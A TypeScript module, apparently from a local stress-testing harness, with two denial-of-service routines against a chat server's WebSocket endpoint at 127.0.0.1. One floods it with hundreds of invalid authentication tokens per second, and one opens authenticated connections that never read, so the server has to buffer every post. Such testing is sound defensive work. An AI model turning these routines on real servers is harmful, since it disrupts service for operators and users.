import { once } from 'node:events'
import { setInterval as every } from 'node:timers/promises'
import WebSocket, { type ClientOptions } from 'ws'
import type { Target } from './attack.js'

const socketsPath = '/api/v3/users/websocket'
const floodMs = 20
const challengesATime = 10
const challenge = JSON.stringify({
  seq: 1,
  action: 'authentication_challenge',
  data: { token: 'a'.repeat(26) },
})

/** Sends five hundred wrong tokens per second until it is disconnected. */
export async function challenges({ port }: Target, from: string, signal: AbortSignal): Promise<void> {
  const socket = openWebSocket(port, { localAddress: from })
  try {
    await once(socket, 'open', { signal })
    for await (const _ of every(floodMs, undefined, { signal })) {
      if (socket.readyState !== WebSocket.OPEN) return
      for (let sent = 0; sent < challengesATime; sent++) socket.send(challenge)
    }
  } finally {
    socket.terminate()
  }
}

/** Opens WebSockets with a session, which receive every post and read nothing. */
export async function deafClient({ port, token }: Target, from: string, signal: AbortSignal): Promise<void> {
  const headers = { authorization: `Bearer ${token}` }
  const socket = openWebSocket(port, { localAddress: from, headers })
  try {
    await once(socket, 'open', { signal })
    socket.pause()
    await once(socket, 'close', { signal })
  } finally {
    socket.terminate()
  }
}

/** Resolves without waiting for late responses after an attack's end. */
function openWebSocket(port: number, options: ClientOptions): WebSocket {
  return new WebSocket(`ws://127.0.0.1:${port}${socketsPath}`, options).on('error', () => {})
}
